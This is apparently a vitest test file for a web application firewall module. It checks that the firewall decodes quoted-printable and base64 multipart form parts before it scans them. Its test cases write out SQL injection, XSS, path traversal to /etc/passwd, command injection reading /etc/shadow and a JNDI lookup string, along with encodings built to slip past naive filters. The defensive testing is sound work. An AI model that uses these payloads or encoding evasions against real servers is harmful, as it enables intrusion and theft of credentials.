// A multipart/form-data part may carry its own Content-Transfer-Encoding.
// RFC 7578 deprecates it, but servers still undo it before the application
// reads the field: Go's mime/multipart wraps a part whose
// Content-Transfer-Encoding is "quoted-printable" in a quotedprintable.Reader
// (so r.FormValue returns the decoded text; the Go toolchain is not on this
// machine, so that is relied on from Go's documented behaviour, not run), and
// stacks built on a MIME library decode base64 and quoted-printable alike:
// Python's email package is one, and the last test runs it as a real server.
// So `1' OR 1=1-- ` sent as `1=27 OR 1=3D1-- ` or as base64 reached the
// application while http_waf read only the encoded bytes.
//
// HTTP_WAF_WASM=<file> runs these tests against another build of the module
// (how they were shown to fail before the change).
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Verdict } from '../../../host/verdict.js';
import type { InspectItem } from '../../../host/wasm/types.js';
import { SID, wafUnderTest, run, segmented, streamItem } from './waf.js';
import { compareCost } from '../cost.js';

const module = wafUnderTest;

beforeAll(async () => { await module(); }, 180_000);

const { SQLI, XSS, TRAVERSAL, CMDI, JNDI, PART_UNDECODED } = SID;
const LOW = 3;

let flow = 90_000;
const sids = (r: { alerts: { sigId: number }[] }) => [...new Set(r.alerts.map((a) => a.sigId))].sort();
const latin1 = (s: string | Uint8Array) => (typeof s === 'string' ? Buffer.from(s, 'latin1') : Buffer.from(s));
const b64 = (s: string | Uint8Array, column = 76) => (latin1(s).toString('base64').match(new RegExp(`.{1,${column}}`, 'g')) ?? []).join('\r\n');

interface Part {
  name: string;
  value: string | Uint8Array;
  /** The Content-Transfer-Encoding value, sent as "Content-Transfer-Encoding: <cte>". */
  cte?: string;
  /** Further part header lines exactly as sent (odd spellings, folding). */
  lines?: string[];
  filename?: string;
  type?: string;
}

function formBody(parts: Part[], boundary = '----x'): Buffer {
  const out: Buffer[] = [];
  for (const p of parts) {
    const head = [`Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`];
    if (p.type) head.push(`Content-Type: ${p.type}`);
    if (p.cte !== undefined) head.push(`Content-Transfer-Encoding: ${p.cte}`);
    head.push(...(p.lines ?? []));
    out.push(latin1(`--${boundary}\r\n${head.join('\r\n')}\r\n\r\n`), latin1(p.value), latin1('\r\n'));
  }
  out.push(latin1(`--${boundary}--\r\n`));
  return Buffer.concat(out);
}

function post(body: Uint8Array, contentType = 'multipart/form-data; boundary=----x', extra: Record<string, string> = {}): Buffer {
  const h = { Host: 'shop.example', 'User-Agent': 'Go-http-client/1.1', 'Content-Type': contentType, ...extra, 'Content-Length': String(body.length) };
  return Buffer.concat([latin1(`POST /upload HTTP/1.1\r\n${Object.entries(h).map(([k, v]) => `${k}: ${v}`).join('\r\n')}\r\n\r\n`), body]);
}

const form = (...parts: Part[]) => post(formBody(parts));

async function send(message: Uint8Array, config?: unknown) {
  return run(await module(config), [streamItem(flow++, 0, message)]);
}

const alertOf = (r: { alerts: { sigId: number; metadata: Record<string, unknown> | null }[] }, sid: number) => r.alerts.find((a) => a.sigId === sid)?.metadata;

describe('http_waf multipart parts in quoted-printable (as Go mime/multipart decodes them)', () => {
  it('catches a SQL injection that is only SQL once decoded, and says the part was decoded', async () => {
    const r = await send(form({ name: 'id', cte: 'quoted-printable', value: '1=27=20OR=201=3D1--=20' }));
    expect(sids(r)).toEqual([SQLI]);
    expect(r.alerts[0]!.metadata).toMatchObject({ field: 'multipart:id', value: "1' OR 1=1-- ", decoded: 'quoted-printable', http_method: 'POST' });
  });

  it('runs XSS, traversal, command injection and JNDI on decoded fields', async () => {
    const cases: [string, number][] = [
      ['=3Csvg=20onload=3Dalert(1)=3E', XSS],
      ['=2E=2E=2F=2E=2E=2F=2E=2E=2Fetc=2Fpasswd', TRAVERSAL],
      ['127.0.0.1=3B=20cat=20=2Fetc=2Fshadow', CMDI],
      ['=24=7Bjndi:ldap://198.18.0.66/a=7D', JNDI],
    ];
    for (const [value, sid] of cases) {
      const r = await send(form({ name: 'f', cte: 'quoted-printable', value }));
      expect(sids(r), value).toContain(sid);
      expect(alertOf(r, sid), value).toMatchObject({ decoded: 'quoted-printable' });
    }
  });

  it('undoes soft line breaks (with trailing blanks, CRLF or LF) and lower-case hex, which Go and Python accept', async () => {
    const value = "x=27 un=\r\nion sel=  \r\nect password fr=\nom users--=20";
    const r = await send(form({ name: 'q', cte: 'quoted-printable', value }));
    expect(sids(r)).toEqual([SQLI]);
    expect(alertOf(r, SQLI)).toMatchObject({ value: "x' union select password from users-- " });
    const lower = await send(form({ name: 'q', cte: 'quoted-printable', value: '=3csvg onload=3dalert(1)=3e' }));
    expect(sids(lower)).toEqual([XSS]);
  });

  it('decodes a quoted-printable JSON part and uploaded file with their own checks', async () => {
    const json = await send(form({ name: 'meta', type: 'application/json', cte: 'quoted-printable', value: '{"q":"x=27 union select password from users-- "}' }));
    expect(sids(json)).toEqual([SQLI]);
    expect(alertOf(json, SQLI)).toMatchObject({ field: 'body:json', decoded: 'quoted-printable' });
    const file = await send(form({ name: 'doc', filename: 'notes.txt', type: 'text/plain', cte: 'quoted-printable', value: 'hello =24=7Bjndi:ldap://198.18.0.66/a=7D' }));
    expect(sids(file)).toEqual([JNDI]);
    expect(alertOf(file, JNDI)).toMatchObject({ field: 'multipart file:doc', decoded: 'quoted-printable' });
  });

  it('keeps a malformed "=" as sent, as Python does, and still decodes the rest', async () => {
    for (const value of ["=ZZ x=27 or 1=3D1-- ", "=2 x=27 or 1=3D1-- ", "x=27 or 1=3D1-- ="]) {
      const r = await send(form({ name: 'q', cte: 'quoted-printable', value }));
      expect(sids(r), value).toEqual([SQLI]);
      expect(alertOf(r, SQLI), value).toMatchObject({ decoded: 'quoted-printable' });
    }
  });

  it('decodes a part that arrives over many TCP segments once it is whole', async () => {
    const msg = form({ name: 'user', value: 'admin' }, { name: 'pass', cte: 'quoted-printable', value: '1=27=20OR=201=3D1--=20' });
    const r = run(await module(), segmented(flow++, 0, msg, [40, 90, 7, 130, 11, 60, 300]));
    expect(r.alerts.map((a) => a.sigId)).toEqual([SQLI]);
    expect(r.alerts[0]!.index).toBe(r.verdicts.length - 1);
  });
});

describe('http_waf multipart parts in base64 (as MIME-library parsers decode them)', () => {
  it('catches attacks in a base64 field wrapped at 76 columns, and says so', async () => {
    const sqli = "1' union select username, password from users where 'a'='a' and 1=1 order by 1-- ";
    const r = await send(form({ name: 'id', cte: 'base64', value: b64(sqli) }));
    expect(sids(r)).toEqual([SQLI]);
    expect(r.alerts[0]!.metadata).toMatchObject({ field: 'multipart:id', decoded: 'base64' });
    expect(String(r.alerts[0]!.metadata!.value)).toContain('union select');
    expect(sids(await send(form({ name: 'c', cte: 'base64', value: b64('<img src=x onerror=alert(1)>') })))).toEqual([XSS]);
    expect(sids(await send(form({ name: 'h', cte: 'base64', value: b64('127.0.0.1 | id') })))).toContain(CMDI);
  });

  it('checks a base64 file upload as file content, decoded', async () => {
    const r = await send(form({ name: 'upload', filename: 'a.txt', type: 'text/plain', cte: 'base64', value: b64('log line ${jndi:ldap://198.18.0.66/a}') }));
    expect(sids(r)).toEqual([JNDI]);
    expect(alertOf(r, JNDI)).toMatchObject({ field: 'multipart file:upload', decoded: 'base64' });
  });

  it('reads missing padding, junk bytes and URL-safe characters as lenient MIME decoders do (skipped)', async () => {
    const enc = b64("1' or 1=1-- x", 1000).replace(/=+$/, ''); // "MScgb3IgMT0xLS0geA", padding dropped
    const junk = enc.slice(0, 5) + ' !-_\t' + enc.slice(5, 11) + '\r\n*' + enc.slice(11);
    for (const value of [enc, junk]) {
      const r = await send(form({ name: 'q', cte: 'base64', value }));
      expect(sids(r), value).toEqual([SQLI]);
      expect(alertOf(r, SQLI), value).toMatchObject({ value: "1' or 1=1-- x", decoded: 'base64' });
    }
  });

  it('reads an "=" inside the data both ways decoders do: a stray one skipped, a padded piece then a new one', async () => {
    const whole = b64("1' or 1=1-- ", 1000); // "MScgb3IgMT0xLS0g"
    // Python's binascii skips a stray "=": the bits run on
    const stray = whole.slice(0, 2) + '=' + whole.slice(2);
    const r1 = await send(form({ name: 'q', cte: 'base64', value: stray }));
    expect(sids(r1)).toEqual([SQLI]);
    expect(alertOf(r1, SQLI)).toMatchObject({ value: "1' or 1=1-- ", decoded: 'base64' });
    // two pieces each encoded on their own: a decoder working in 4-character units starts afresh after the padding
    const pieces = b64("1'") + b64(' or 1=1-- ');
    expect(pieces).toContain('=I');
    const r2 = await send(form({ name: 'q', cte: 'base64', value: pieces }));
    expect(sids(r2)).toEqual([SQLI]);
    expect(alertOf(r2, SQLI)).toMatchObject({ value: "1' or 1=1-- ", decoded: 'base64' });
  });
});

describe('http_waf Content-Transfer-Encoding header spellings', () => {
  const qpSqli = '1=27=20OR=201=3D1--=20';

  it('matches the header whatever its case, blanks, parameters or folding', async () => {
    const spellings = [
      ['Content-Transfer-Encoding: QUOTED-PRINTABLE'],
      ['content-transfer-encoding:quoted-printable'],
      ['Content-Transfer-Encoding: \t quoted-printable ; x=y \t'],
      ['Content-Transfer-Encoding : quoted-printable'],
      ['Content-Transfer-Encoding:', ' quoted-printable'],
    ];
    for (const lines of spellings) {
      const r = await send(form({ name: 'id', lines, value: qpSqli }));
      expect(sids(r), lines.join('|')).toEqual([SQLI]);
      expect(alertOf(r, SQLI), lines.join('|')).toMatchObject({ decoded: 'quoted-printable' });
    }
  });

  it('undoes every coding a part names, since servers differ on which header counts', async () => {
    const r = await send(form({ name: 'id', lines: ['Content-Transfer-Encoding: quoted-printable', 'Content-Transfer-Encoding: Base64'], value: b64("1' or 1=1-- ") }));
    expect(sids(r)).toEqual([SQLI]);
    expect(alertOf(r, SQLI)).toMatchObject({ decoded: 'base64' });
  });

  it('reports a match visible as sent without "decoded"', async () => {
    const r = await send(form({ name: 'id', cte: 'quoted-printable', value: "1' OR 1=1-- " }));
    expect(sids(r)).toEqual([SQLI]);
    expect(alertOf(r, SQLI)).not.toHaveProperty('decoded');
  });
});

describe('http_waf unknown part coding (1001017)', () => {
  it('reports a coding it cannot undo once per request, low severity, and inspects the part as sent', async () => {
    const r = await send(form(
      { name: 'a', cte: 'x-uuencode', value: 'begin 644 a\r\n#86)C\r\nend' },
      { name: 'b', cte: 'Base32', value: "1' or 1=1-- " },
    ));
    expect(sids(r)).toEqual([SQLI, PART_UNDECODED]);
    const anomaly = r.alerts.filter((a) => a.sigId === PART_UNDECODED);
    expect(anomaly).toHaveLength(1);
    expect(anomaly[0]!.severity).toBe(LOW);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });

  it('raises nothing for the identity codings or an empty value', async () => {
    for (const cte of ['7bit', '8BIT', ' binary ', '']) {
      const r = await send(form({ name: 'note', cte, value: 'hello world' }));
      expect(r.alerts, JSON.stringify(cte)).toEqual([]);
    }
  });

  it('blocks in block mode only when body_action is "block", as an undecodable body does', async () => {
    const msg = form({ name: 'a', cte: 'uuencode', value: 'begin 644 a\r\nend' });
    expect((await send(msg, { mode: 'block' })).verdicts).toEqual([Verdict.CONTINUE]);
    const blocked = await send(msg, { mode: 'block', body_action: 'block' });
    expect(sids(blocked)).toEqual([PART_UNDECODED]);
    expect(blocked.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });
});

describe('http_waf encoded parts: false positives, robustness and cost', () => {
  it('leaves ordinary quoted-printable and base64 parts alone', async () => {
    const png = new Uint8Array(4096).map((_, i) => (i * 131 + 7) & 0xff);
    const r = await send(form(
      { name: 'title', cte: 'quoted-printable', value: "O'Reilly's guide =3D Caf=C3=A9 for 5 =E2=82=AC, select the best 1 or 2 =\r\nbooks" },
      { name: 'notes', cte: 'base64', value: b64('Line one\r\nLine two; see /docs/setup and C:\\Users\\me\\file.txt') },
      { name: 'avatar', filename: 'me.png', type: 'image/png', cte: 'base64', value: b64(png) },
      { name: 'plain', cte: '8bit', value: 'nothing to see' },
    ));
    expect(r.alerts).toEqual([]);
  });

  it('decodes 3,000 random malformed parts without a trap', async () => {
    const inst = await module();
    let seed = 12345;
    const rand = (n: number) => { seed = (seed * 1103515245 + 12345) >>> 0; return seed % n; };
    const alphabet = '==== 0123456789ABCDEFabcdef+/-_!\r\n\t\x00\xff';
    const items: InspectItem[] = [];
    for (let k = 0; k < 3000; k++) {
      let value = '';
      const len = rand(200);
      for (let i = 0; i < len; i++) value += alphabet[rand(alphabet.length)];
      const cte = ['quoted-printable', 'base64', 'x-unknown', 'Base64;', ''][rand(5)]!;
      items.push(streamItem(flow++, 0, form({ name: 'f', cte, value }, { name: 'g', cte: 'base64', value: value.slice(0, rand(len + 1)) })));
      if (items.length === 250) { expect(run(inst, items.splice(0)).verdicts.every((v) => v === Verdict.CONTINUE)).toBe(true); }
    }
    expect(run(inst, items).verdicts.every((v) => v === Verdict.CONTINUE)).toBe(true);
    // still inspecting afterwards
    expect(sids(run(inst, [streamItem(flow++, 0, form({ name: 'id', cte: 'quoted-printable', value: '1=27=20OR=201=3D1--=20' }))]))).toEqual([SQLI]);
  });

  it('a 512 KiB part built to decode twice and slowly costs no more than 5x an ordinary encoded part', async () => {
    const inst = await module({ body_depth: 1 << 20 });
    const size = 512 * 1024;
    const ordinary = b64('The quick brown fox jumps over the lazy dog. '.repeat(Math.ceil(size / 60))).slice(0, size);
    // "A=" throughout: data after padding everywhere, so both base64 readings run
    const padded = 'A='.repeat(size / 2);
    // "=" then a run of blanks that is no soft line break, again and again
    const blanks = ('=' + ' '.repeat(63)).repeat(size / 64);
    const round = (value: string, cte: string) => () => [streamItem(flow++, 0, form({ name: 'f', cte, value }))];
    expect(run(inst, round(padded, 'base64')()).alerts).toEqual([]);
    for (const [crafted, cte] of [[padded, 'base64'], [blanks, 'quoted-printable']] as const) {
      expect(crafted.length).toBe(size);
      const c = compareCost(inst, round(ordinary, 'base64'), round(crafted, cte), 3);
      expect(c.ratio, JSON.stringify(c)).toBeLessThan(5);
    }
  }, 120_000);
});

// ---------------------------------------------------------------- a real decoder

const script = fileURLToPath(new URL('./email-form-server.py', import.meta.url));
let server: ChildProcess | null = null;
let port = 0;

function python(): string | null {
  try { execFileSync('python3', ['--version'], { stdio: 'ignore' }); return null; } catch { return 'python3 is not installed'; }
}
const noPython = python();
if (noPython !== null && process.env.CI === 'true') throw new Error(`email-form server test cannot run in CI: ${noPython}`);

afterAll(() => { if (server !== null && server.exitCode === null) server.kill('SIGTERM'); });

/** Sends the exact bytes and returns the fields as Python's email package decoded them. */
function ask(message: Uint8Array): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    const sock = connect(port, '127.0.0.1');
    const chunks: Buffer[] = [];
    sock.on('data', (b) => chunks.push(b));
    sock.on('error', reject);
    sock.on('end', () => {
      const text = Buffer.concat(chunks).toString('latin1');
      const at = text.indexOf('\r\n\r\n');
      if (!text.startsWith('HTTP/1.0 200') || at < 0) { reject(new Error(`unexpected answer: ${text.slice(0, 200)}`)); return; }
      resolve(JSON.parse(text.slice(at + 4)) as Record<string, string>);
    });
    sock.end(message);
  });
}

describe.skipIf(noPython !== null)(`http_waf against a real decoder: Python's email package behind http.server${noPython ? ` (skipped: ${noPython})` : ''}`, () => {
  beforeAll(async () => {
    server = spawn('python3', [script], { stdio: ['ignore', 'pipe', 'pipe'] });
    let said = '';
    server.stderr!.on('data', (b: Buffer) => { said += b.toString(); });
    port = await new Promise<number>((resolve, reject) => {
      const t = setTimeout(() => reject(new Error(`email-form server did not start within 30 s: ${said}`)), 30_000);
      let printed = '';
      server!.stdout!.on('data', (b: Buffer) => {
        // a line can arrive in pieces
        printed += b.toString();
        const m = /port (\d+)\n/.exec(printed);
        if (m) { clearTimeout(t); resolve(Number(m[1])); }
      });
      server!.on('exit', (code) => { clearTimeout(t); reject(new Error(`email-form server exited with ${code}: ${said}`)); });
    });
  }, 60_000);

  // Each payload is what the application receives once the server decodes
  // the part; http_waf must flag it and report exactly that decoded text.
  const cases: [string, string, string, number][] = [
    ['quoted-printable', '1=27=20OR=201=3D1--=20', "1' OR 1=1-- ", SQLI],
    ['quoted-printable', 'x=27 un=\r\nion sel=\r\nect password from users-- ', "x' union select password from users-- ", SQLI],
    ['Quoted-Printable', '=3csvg onload=3dalert(1)=3e', '<svg onload=alert(1)>', XSS],
    ['quoted-printable', '=ZZ x=27 or 1=3D1-- ', "=ZZ x' or 1=1-- ", SQLI],
    ['base64', b64("1' union select password from users-- ", 20), "1' union select password from users-- ", SQLI],
    ['base64', 'JHtqbmRpOmxkYXA6Ly8xOTguMTguMC42Ni9hfQ', '${jndi:ldap://198.18.0.66/a}', JNDI],
    ['base64', 'PHN2ZyBv bmxvYWQ9 YWxlcnQo MSk+!!', '<svg onload=alert(1)>', XSS],
    ['base64', 'MS=cgb3IgMT0xLS0g', "1' or 1=1-- ", SQLI],
  ];

  it('flags every payload the server decoded, and reports the same text', async () => {
    for (const [cte, encoded, decoded, sid] of cases) {
      const msg = post(formBody([{ name: 'user', value: 'admin' }, { name: 'q', cte, value: encoded }]), 'multipart/form-data; boundary=----x', { Connection: 'close' });
      const seen = await ask(msg);
      expect(seen.q, `${cte} ${JSON.stringify(encoded)}`).toBe(decoded);
      const r = await send(msg);
      expect(sids(r), JSON.stringify(encoded)).toEqual([sid]);
      expect(alertOf(r, sid), JSON.stringify(encoded)).toMatchObject({ value: decoded });
      expect(alertOf(r, sid)!.decoded, JSON.stringify(encoded)).toBe(cte.toLowerCase());
    }
  }, 30_000);
});
